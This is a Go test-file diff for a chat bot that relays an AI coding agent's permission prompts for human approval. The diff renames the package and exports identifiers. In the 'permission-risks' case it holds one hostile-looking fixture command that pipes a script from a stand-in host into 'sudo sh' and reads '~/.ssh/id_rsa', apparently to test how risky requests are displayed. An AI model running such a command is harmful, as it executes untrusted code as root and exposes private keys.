@@ -1,4 +1,4 @@
-package bot
+package message
 
 import (
 	"flag"
@@ -26,9 +26,9 @@ var noon = time.Date(2026, 11, 20, 14, 32, 11, 0, time.UTC)
 
 const goldenChat = 4242
 
-var goldenSeal = sealer{[]byte("a secret of the tests")}
+var goldenSeal = Sealer{[]byte("a secret of the tests")}
 
-func goldenStyle() style { return newStyle("", false, time.UTC, nil) }
+func goldenStyle() Style { return NewStyle("", false, time.UTC, nil) }
 
 // goldenNudge is a pending permission; change makes another of it.
 func goldenNudge(change func(*nudge.Nudge)) nudge.Nudge {
@@ -149,25 +149,25 @@ func answered(d screen.Decision, choice *deliver.Choice) nudge.Answer {
 // and reviewed. go test -update writes the files.
 func TestMessages(t *testing.T) {
 	at := noon.Add(90 * time.Second)
-	first := func(v renderer) outgoing { return v.promptMessage(goldenChat, goldenSeal, noon, false) }
-	later := func(v renderer) outgoing { return v.promptMessage(goldenChat, goldenSeal, at, false) }
-	ending := func(v renderer) outgoing { return v.endingMessage(goldenChat, goldenSeal, at) }
-	outcome := func(v renderer) outgoing { return v.outcomeMessage(goldenChat, goldenSeal, at) }
-	calm := func(v renderer) outgoing { return v.message(goldenChat, goldenSeal, noon, false) }
-	preview := func(v renderer) outgoing { return v.preview(goldenChat, goldenSeal, noon) }
-	minimal := func(l *style) { l.minimal = true }
+	first := func(v Renderer) Outgoing { return v.Asking(goldenChat, goldenSeal, noon, false) }
+	later := func(v Renderer) Outgoing { return v.Asking(goldenChat, goldenSeal, at, false) }
+	ending := func(v Renderer) Outgoing { return v.Over(goldenChat, goldenSeal, at) }
+	outcome := func(v Renderer) Outgoing { return v.Outcome(goldenChat, goldenSeal, at) }
+	calm := func(v Renderer) Outgoing { return v.Message(goldenChat, goldenSeal, noon, false) }
+	preview := func(v Renderer) Outgoing { return v.ShortPreview(goldenChat, goldenSeal, noon) }
+	minimal := func(l *Style) { l.Minimal = true }
 	mode := &deliver.Choice{Index: 0, Label: "Yes, and auto-accept edits"}
-	var all []outgoing
+	var all []Outgoing
 	for _, c := range []struct {
 		name    string
 		change  func(*nudge.Nudge)
-		style   func(*style)
-		message func(renderer) outgoing
+		style   func(*Style)
+		message func(Renderer) Outgoing
 	}{
 		{"permission", nil, nil, first},
 		{"permission-other-rows", func(n *nudge.Nudge) { n.Tail = n.Tail[:4] }, nil, first},
 		{"permission-risks", func(n *nudge.Nudge) { n.Prompt.Subject = "curl -s https://a.example | sudo sh && cat ~/.ssh/id_rsa" }, nil, first},
-		{"permission-host", nil, func(l *style) { l.host = "laptop" }, first},
+		{"permission-host", nil, func(l *Style) { l.Host = "laptop" }, first},
 		{"permission-named", func(n *nudge.Nudge) { n.Name = "backend" }, nil, first},
 		{"permission-edit", func(n *nudge.Nudge) { n.Prompt.Verb, n.Prompt.Subject = "edit", "src/auth.go" }, nil, first},
 		{"permission-partial", func(n *nudge.Nudge) { n.Prompt.Partial = true }, nil, first},
@@ -177,8 +177,8 @@ func TestMessages(t *testing.T) {
 		{"permission-event", func(n *nudge.Nudge) { n.Prompt.Source = screen.FromEvent }, nil, first},
 		{"permission-labels", withLabels, nil, first},
 		{"permission-labels-quote", func(n *nudge.Nudge) { withLabels(n); n.Tail = n.Tail[4:] }, nil, first},
-		{"permission-masked", nil, func(l *style) {
-			l.redact = func(s string) string { return strings.ReplaceAll(s, "/tmp/x", "••••••") }
+		{"permission-masked", nil, func(l *Style) {
+			l.Redact = func(s string) string { return strings.ReplaceAll(s, "/tmp/x", "••••••") }
 		}, first},
 		{"permission-again", func(n *nudge.Nudge) { n.Again = "The key was typed, but the question still stands." }, nil, first},
 		{"permission-no-yes", func(n *nudge.Nudge) {
@@ -205,7 +205,7 @@ func TestMessages(t *testing.T) {
 		{"question-boxes-unproven", both(asBoxes, func(n *nudge.Nudge) { n.Prompt.Tickable, n.Prompt.Send = false, nil }), nil, first},
 		{"question-boxes-last", asLastList, nil, first},
 		{"question-boxes-more", asScrolledList, nil, first},
-		{"question-boxes-watched", asBoxes, func(l *style) { l.watches = true }, first},
+		{"question-boxes-watched", asBoxes, func(l *Style) { l.Watches = true }, first},
 		{"question-review", asReview, nil, first},
 		{"question-review-send", asSentReview, nil, first},
 		{"question-plan", asPlan, nil, first},
@@ -216,41 +216,41 @@ func TestMessages(t *testing.T) {
 		{"outcome-boxes-copy-mode", both(asBoxes, answeredWith(screen.Send, nudge.Pending), func(n *nudge.Nudge) { n.Reason = deliver.CopyMode }), nil, outcome},
 		{"outcome-boxes-changed", both(asBoxes, answeredWith(screen.Send, nudge.Pending), func(n *nudge.Nudge) { n.Reason = deliver.Changed }), nil, outcome},
 		{"outcome-ticked", both(asBoxes, answeredWith("", nudge.Pending), func(n *nudge.Nudge) { n.Claim.Choice = &deliver.Choice{Index: 1, Label: "[✔] Large"} }), nil, outcome},
-		{"question-sure", asQuestion, nil, func(v renderer) outgoing { return v.sureMessage(answered("", mode), goldenSeal) }},
-		{"question-y", asQuestion, nil, func(v renderer) outgoing {
+		{"question-sure", asQuestion, nil, func(v Renderer) Outgoing { return v.Sure(answered("", mode), goldenSeal) }},
+		{"question-y", asQuestion, nil, func(v Renderer) Outgoing {
 			verdict := nudge.Verdict{Kind: nudge.Rejected, Nudge: v.Nudge, Reason: deliver.NoKey, Detail: "y and n don't answer that."}
-			return rejectedMessage(answered(screen.Approve, nil), verdict, v.style, goldenSeal)
+			return Rejected(answered(screen.Approve, nil), verdict, v.Style, goldenSeal)
 		}},
-		{"which", nil, nil, func(v renderer) outgoing {
-			return whichMessage(answered(screen.Approve, nil), nudge.Verdict{Among: []nudge.Nudge{v.Nudge, v.Nudge}}, v.style, goldenSeal, noon)
+		{"which", nil, nil, func(v Renderer) Outgoing {
+			return Which(answered(screen.Approve, nil), nudge.Verdict{Among: []nudge.Nudge{v.Nudge, v.Nudge}}, v.Style, goldenSeal, noon)
 		}},
-		{"which-snoozed", nil, nil, func(v renderer) outgoing {
+		{"which-snoozed", nil, nil, func(v Renderer) Outgoing {
 			snoozed := v.Nudge
 			snoozed.Snoozed = noon.Add(time.Hour)
 			verdict := nudge.Verdict{Among: []nudge.Nudge{v.Nudge, snoozed}, Doubt: "Something newer has only just ended."}
-			return whichMessage(answered(screen.Deny, nil), verdict, v.style, goldenSeal, noon)
+			return Which(answered(screen.Deny, nil), verdict, v.Style, goldenSeal, noon)
 		}},
-		{"which-option", asQuestion, nil, func(v renderer) outgoing {
+		{"which-option", asQuestion, nil, func(v Renderer) Outgoing {
 			a := answered("", nil)
 			a.Text = "2"
-			return whichMessage(a, nudge.Verdict{Among: []nudge.Nudge{v.Nudge, v.Nudge}}, v.style, goldenSeal, noon)
+			return Which(a, nudge.Verdict{Among: []nudge.Nudge{v.Nudge, v.Nudge}}, v.Style, goldenSeal, noon)
 		}},
-		{"unseen", func(n *nudge.Nudge) { n.Prompt.Partial = true }, nil, func(v renderer) outgoing {
-			return v.unseenMessage(answered(screen.Approve, nil), goldenSeal)
+		{"unseen", func(n *nudge.Nudge) { n.Prompt.Partial = true }, nil, func(v Renderer) Outgoing {
+			return v.Unseen(answered(screen.Approve, nil), goldenSeal)
 		}},
 		{"unseen-doubts", func(n *nudge.Nudge) {
 			n.Prompt.Partial, n.Prompt.Doubts = true, []string{"12 lines are hidden."}
-		}, nil, func(v renderer) outgoing { return v.unseenMessage(answered(screen.Approve, nil), goldenSeal) }},
+		}, nil, func(v Renderer) Outgoing { return v.Unseen(answered(screen.Approve, nil), goldenSeal) }},
 		{"idle", asIdle("All tests pass."), nil, calm},
 		{"idle-words", asIdle("I fixed the **login** <bug>.\n\n- auth.go\n- auth_test.go\n\nShall I commit?"), nil, calm},
 		{"idle-long", asIdle(strings.Repeat("Another long line of words that it said.\n", 200)), nil, calm},
 		{"idle-no-words", asIdle(""), nil, calm},
-		{"idle-masked", asIdle("The key is /tmp/x now."), func(l *style) {
-			l.redact = func(s string) string { return strings.ReplaceAll(s, "/tmp/x", "••••••") }
+		{"idle-masked", asIdle("The key is /tmp/x now."), func(l *Style) {
+			l.Redact = func(s string) string { return strings.ReplaceAll(s, "/tmp/x", "••••••") }
 		}, calm},
 		{"idle-blocked", both(asIdle("I was about to"), func(n *nudge.Nudge) { n.Blocked = "usage limit reached, resets 5pm." }), nil, calm},
 		{"idle-minimal", asIdle("The password is hidden"), minimal, preview},
-		{"idle-replaced", asIdle("All tests pass."), nil, renderer.replacedMessage},
+		{"idle-replaced", asIdle("All tests pass."), nil, Renderer.Replaced},
 		{"silent", asSilent(""), nil, calm},
 		{"silent-blocked", asSilent("usage limit reached, resets 5pm"), nil, calm},
 		{"silent-minimal", asSilent(""), minimal, preview},
@@ -278,19 +278,19 @@ func TestMessages(t *testing.T) {
 		{"outcome-draft", both(asIdle(""), toldWords("run the tests", nudge.Pending), func(n *nudge.Nudge) { n.Reason = deliver.Draft }), nil, outcome},
 		{"outcome-told-copy-mode", both(asIdle(""), toldWords("run the tests", nudge.Pending), func(n *nudge.Nudge) { n.Reason = deliver.CopyMode }), nil, outcome},
 		{"outcome-at-work", both(asIdle(""), toldWords("run the tests", nudge.Pending), func(n *nudge.Nudge) { n.Reason = deliver.Working }), nil, outcome},
-		{"idle-did", both(asIdle("All tests pass."), func(n *nudge.Nudge) { n.Did = &nudge.Did{ID: "i2d", Text: "run the tests"} }), nil, func(v renderer) outgoing {
-			return v.message(goldenChat, goldenSeal, at, false)
+		{"idle-did", both(asIdle("All tests pass."), func(n *nudge.Nudge) { n.Did = &nudge.Did{ID: "i2d", Text: "run the tests"} }), nil, func(v Renderer) Outgoing {
+			return v.Message(goldenChat, goldenSeal, at, false)
 		}},
-		{"queue", nil, nil, func(v renderer) outgoing {
+		{"queue", nil, nil, func(v Renderer) Outgoing {
 			idle, silent := goldenNudge(asIdle("All tests pass.")), goldenNudge(asSilent(""))
 			idle.ID, silent.ID, idle.Skipped = "i2d", "s5t", noon
-			return queueMessage([]nudge.Nudge{v.Nudge, silent, idle}, goldenChat, goldenSeal, v.style, at)
+			return Queue([]nudge.Nudge{v.Nudge, silent, idle}, goldenChat, goldenSeal, v.Style, at)
 		}},
-		{"reason", nil, nil, func(v renderer) outgoing { return v.reasonMessage(goldenChat, goldenSeal) }},
-		{"reason-how", nil, nil, func(v renderer) outgoing {
+		{"reason", nil, nil, func(v Renderer) Outgoing { return v.AskReason(goldenChat, goldenSeal) }},
+		{"reason-how", nil, nil, func(v Renderer) Outgoing {
 			a := answered("", nil)
 			a.Text = "no, use the cache"
-			out, _ := howToDeny(a, v.Nudge, goldenSeal)
+			out, _ := HowToDeny(a, v.Nudge, goldenSeal)
 			return out
 		}},
 		{"outcome-reason", both(func(n *nudge.Nudge) { claimed(n, nudge.Delivered, screen.Deny) }, because,
@@ -299,26 +299,26 @@ func TestMessages(t *testing.T) {
 			}), nil, outcome},
 		{"outcome-reason-refused", both(func(n *nudge.Nudge) { claimed(n, nudge.Refused, screen.Deny); n.Reason = deliver.Changed }, because), nil, outcome},
 		{"outcome-reason-unknown", both(func(n *nudge.Nudge) { claimed(n, nudge.Unknown, screen.Deny) }, because), nil, outcome},
-		{"watcher", nil, func(l *style) { l.watches = true }, first},
-		{"watcher-question", asQuestion, func(l *style) { l.watches = true }, first},
-		{"watcher-idle", asIdle("All tests pass."), func(l *style) { l.watches = true }, calm},
-		{"watcher-several", nil, func(l *style) { l.watches = true }, func(v renderer) outgoing {
-			return groupMessage(goldenGroup(v.Nudge), goldenChat, goldenSeal, v.style, at, true)
+		{"watcher", nil, func(l *Style) { l.Watches = true }, first},
+		{"watcher-question", asQuestion, func(l *Style) { l.Watches = true }, first},
+		{"watcher-idle", asIdle("All tests pass."), func(l *Style) { l.Watches = true }, calm},
+		{"watcher-several", nil, func(l *Style) { l.Watches = true }, func(v Renderer) Outgoing {
+			return Group(goldenGroup(v.Nudge), goldenChat, goldenSeal, v.Style, at, true)
 		}},
-		{"several", nil, nil, func(v renderer) outgoing {
-			return groupMessage(goldenGroup(v.Nudge), goldenChat, goldenSeal, v.style, at, true)
+		{"several", nil, nil, func(v Renderer) Outgoing {
+			return Group(goldenGroup(v.Nudge), goldenChat, goldenSeal, v.Style, at, true)
 		}},
-		{"several-minimal", nil, minimal, func(v renderer) outgoing {
-			return groupMessage(goldenGroup(v.Nudge), goldenChat, goldenSeal, v.style, at, true)
+		{"several-minimal", nil, minimal, func(v Renderer) Outgoing {
+			return Group(goldenGroup(v.Nudge), goldenChat, goldenSeal, v.Style, at, true)
 		}},
-		{"several-over", nil, nil, func(v renderer) outgoing {
+		{"several-over", nil, nil, func(v Renderer) Outgoing {
 			list := goldenGroup(v.Nudge)
 			for i := range list {
 				list[i].State, list[i].Ended = nudge.Recovered, at
 			}
-			return groupMessage(list, goldenChat, goldenSeal, v.style, at, true)
+			return Group(list, goldenChat, goldenSeal, v.Style, at, true)
 		}},
-		{"outage", nil, nil, func(v renderer) outgoing { return outageMessage(goldenGroup(v.Nudge), noon, at, v.style) }},
+		{"outage", nil, nil, func(v Renderer) Outgoing { return Outage(goldenGroup(v.Nudge), noon, at, v.Style) }},
 		{"ending-approved", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, screen.Approve) }, nil, ending},
 		{"ending-denied", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, screen.Deny) }, nil, ending},
 		{"ending-chosen", func(n *nudge.Nudge) {
@@ -342,7 +342,7 @@ func TestMessages(t *testing.T) {
 		{"ending-expired", func(n *nudge.Nudge) { n.State, n.Ended = nudge.Expired, noon.Add(8*time.Hour) }, nil, ending},
 		{"ending-expired-standing", func(n *nudge.Nudge) { n.State, n.Ended, n.Standing = nudge.Expired, noon.Add(8*time.Hour), true }, nil, ending},
 		{"ending-left-chat", nil, nil, ending},
-		{"ending-minimal", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, screen.Approve) }, func(l *style) { l.minimal = true }, ending},
+		{"ending-minimal", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, screen.Approve) }, func(l *Style) { l.Minimal = true }, ending},
 		{"outcome-approved", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, screen.Approve) }, nil, outcome},
 		{"outcome-changed", func(n *nudge.Nudge) { claimed(n, nudge.Refused, screen.Approve); n.Reason = deliver.Changed }, nil, outcome},
 		{"outcome-copy-mode", func(n *nudge.Nudge) {
@@ -356,7 +356,7 @@ func TestMessages(t *testing.T) {
 			if c.style != nil {
 				c.style(&l)
 			}
-			out := c.message(newRenderer(goldenNudge(c.change), l))
+			out := c.message(Of(goldenNudge(c.change), l))
 			all = append(all, out)
 			compareGolden(t, c.name, out)
 		})
@@ -367,39 +367,39 @@ func TestMessages(t *testing.T) {
 }
 
 // showMessages serves a page with messages, as an app shows them.
-func showMessages(t *testing.T, all []outgoing) {
+func showMessages(t *testing.T, all []Outgoing) {
 	tg := botapi.New(botapi.Options{Token: "1:test"})
 	ann := tg.Person(goldenChat, "Ann")
 	ann.Start()
 	hc, stop := tg.Pipe()
 	defer stop()
 	for _, out := range all {
-		if _, err := sendTo(hc, out, out.page.html, "HTML"); err != nil {
+		if _, err := sendTo(hc, out, out.Page.HTML, "HTML"); err != nil {
 			t.Fatal(err)
 		}
 	}
 	t.Log(http.ListenAndServe(*show, tg.Page(ann)))
 }
 
-func compareGolden(t *testing.T, name string, l outgoing) {
+func compareGolden(t *testing.T, name string, l Outgoing) {
 	t.Helper()
 	var b strings.Builder
-	b.WriteString(l.page.html + "\n")
-	for _, row := range l.keys {
+	b.WriteString(l.Page.HTML + "\n")
+	for _, row := range l.Keys {
 		b.WriteString("\n")
 		for _, k := range row {
 			verb, _, _ := strings.Cut(k.Data, ":")
 			fmt.Fprintf(&b, "[%s]{%s%s} ", k.Text, verb, strings.TrimRight(" "+k.Style, " "))
 		}
 	}
-	if l.wantsReply {
+	if l.WantsReply {
 		b.WriteString("\nopens the reply field")
 	}
-	if l.file != nil {
-		fmt.Fprintf(&b, "\nfile %s, %d bytes", l.file.name, len(l.file.data))
+	if l.File != nil {
+		fmt.Fprintf(&b, "\nfile %s, %d bytes", l.File.Name, len(l.File.Data))
 	}
 	got := b.String() + "\n"
-	if n := l.page.size(); n > maxText {
+	if n := l.Page.Size(); n > MaxText {
 		t.Errorf("%d code points", n)
 	}
 	path := filepath.Join("testdata", name+".html")
@@ -418,28 +418,28 @@ func compareGolden(t *testing.T, name string, l outgoing) {
 }
 
 func TestButtonData(t *testing.T) {
-	for _, p := range []press{
-		{verb: verbApprove, id: "k3f"}, {verb: verbDeny, id: "k3f"}, {verb: verbChoose, option: 0, id: "k3f"},
-		{verb: verbChoose, option: 14, id: "k3fabcd", leave: true, unseen: true, sure: true},
-		{verb: verbApprove, id: "k3f", leave: true, unseen: true}, {verb: verbScreen, id: "k3f"}, {verb: verbShow, id: "k3f"}, {verb: verbAgain, id: "k3f"},
-		{verb: verbApprove, id: "k3f", own: true}, {verb: verbChoose, option: 14, id: "k3fabcde", unseen: true, sure: true, leave: true, own: true, subject: strings.Repeat("x", 16)},
-		{verb: verbDrop, id: "k3f"}, {verb: verbUp, id: "k3f"}, {verb: verbQueue, id: "k3fabcde", claim: (&nudge.Claim{At: noon}).Stamp()},
-		{verb: verbTell, id: "k3fabcde", leave: true, unseen: true, claim: (&nudge.Claim{At: noon}).Stamp()},
+	for _, p := range []Press{
+		{Verb: VerbApprove, ID: "k3f"}, {Verb: VerbDeny, ID: "k3f"}, {Verb: VerbChoose, Option: 0, ID: "k3f"},
+		{Verb: VerbChoose, Option: 14, ID: "k3fabcd", Leave: true, Unseen: true, Sure: true},
+		{Verb: VerbApprove, ID: "k3f", Leave: true, Unseen: true}, {Verb: VerbScreen, ID: "k3f"}, {Verb: VerbShow, ID: "k3f"}, {Verb: VerbAgain, ID: "k3f"},
+		{Verb: VerbApprove, ID: "k3f", own: true}, {Verb: VerbChoose, Option: 14, ID: "k3fabcde", Unseen: true, Sure: true, Leave: true, own: true, subject: strings.Repeat("x", 16)},
+		{Verb: VerbDrop, ID: "k3f"}, {Verb: VerbUp, ID: "k3f"}, {Verb: VerbQueue, ID: "k3fabcde", Claim: (&nudge.Claim{At: noon}).Stamp()},
+		{Verb: VerbTell, ID: "k3fabcde", Leave: true, Unseen: true, Claim: (&nudge.Claim{At: noon}).Stamp()},
 	} {
 		data := goldenSeal.data(p, goldenChat)
 		if len(data) > 64 {
 			t.Errorf("%s has %d bytes", data, len(data))
 		}
-		if got, ok := goldenSeal.open(data, goldenChat); !ok || got != p {
+		if got, ok := goldenSeal.Open(data, goldenChat); !ok || got != p {
 			t.Errorf("%s: %+v, %v, want %+v", data, got, ok, p)
 		}
-		if _, ok := goldenSeal.open(data, goldenChat+1); ok {
+		if _, ok := goldenSeal.Open(data, goldenChat+1); ok {
 			t.Errorf("%s opens in another chat", data)
 		}
 	}
 	sealed := ":k3f:" + goldenSeal.seal("k3f", "", goldenChat)
 	for _, verb := range []string{"", "c", "cx", "c-1", "ax", "j", "L", "LL", "as", "1"} {
-		if p, ok := goldenSeal.open(verb+sealed, goldenChat); ok {
+		if p, ok := goldenSeal.Open(verb+sealed, goldenChat); ok {
 			t.Errorf("%q opens as %+v", verb, p)
 		}
 	}
@@ -458,7 +458,7 @@ func TestCut(t *testing.T) {
 		{"😀😀😀😀", 3, "😀😀…"},
 		{"x", 0, "…"},
 	} {
-		if got := cut(c.in, c.n); got != c.want {
+		if got := Cut(c.in, c.n); got != c.want {
 			t.Errorf("cut(%q, %d) = %q, want %q", c.in, c.n, got, c.want)
 		}
 	}
@@ -473,7 +473,7 @@ func TestLastLines(t *testing.T) {
 	}{
 		{100, "first|second|third", false}, {19, "first|second|third", false}, {18, "second|third", true}, {6, "third", true}, {5, "", true},
 	} {
-		got, short := lastLines(lines, c.room)
+		got, short := LastLines(lines, c.room)
 		if strings.Join(got, "|") != c.want || short != c.short {
 			t.Errorf("room %d: %q, %v, want %q, %v", c.room, got, short, c.want, c.short)
 		}
@@ -484,15 +484,15 @@ func FuzzPage(f *testing.F) {
 	f.Add("<b>&amp;\x1b[31m\u202e", "a\nb")
 	f.Fuzz(func(t *testing.T, subject, row string) {
 		n := goldenNudge(func(n *nudge.Nudge) { n.Prompt.Subject, n.Tail = subject, strings.Split(row, "\n") })
-		l := newRenderer(n, goldenStyle()).promptMessage(goldenChat, goldenSeal, noon, false)
-		if size := l.page.size(); size > maxText {
+		l := Of(n, goldenStyle()).Asking(goldenChat, goldenSeal, noon, false)
+		if size := l.Page.Size(); size > MaxText {
 			t.Errorf("%d code points", size)
 		}
-		lines := strings.Split(l.page.plain, "\n")
+		lines := strings.Split(l.Page.Plain, "\n")
 		if len(lines) < 3 || lines[1] != "main:2.0 · claude.tool_confirmation · #k3f" {
-			t.Errorf("foreign text moved nod's own lines:\n%s", l.page.plain)
+			t.Errorf("foreign text moved nod's own lines:\n%s", l.Page.Plain)
 		}
-		for _, r := range l.page.plain {
+		for _, r := range l.Page.Plain {
 			if visible.Text(string(r)) != string(r) {
 				t.Errorf("%q came through", r)
 			}
